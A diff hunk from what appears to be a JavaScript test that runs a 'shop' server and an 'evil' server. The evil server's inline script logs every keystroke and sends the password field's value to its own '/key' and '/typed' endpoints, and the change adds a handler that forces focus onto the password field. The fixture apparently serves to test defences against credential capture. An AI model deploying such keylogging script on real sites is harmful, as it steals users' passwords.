@@ -40,7 +40,7 @@ const shop = createServer(async (request, response) => {
 const evil = createServer(async (request, response) => {
   await taking('evil')(request);
   response.setHeader('content-type', 'text/html').end(`<!doctype html><body>${FORM}
-    <script>onkeydown = (e) => fetch('/key?' + e.key); oninput = () => fetch('/typed?' + password.value)</script>`);
+    <script>onfocus = () => password.focus(); onkeydown = (e) => fetch('/key?' + e.key); oninput = () => fetch('/typed?' + password.value)</script>`);
 });
 let shopUrl = '';
 let evilUrl = '';
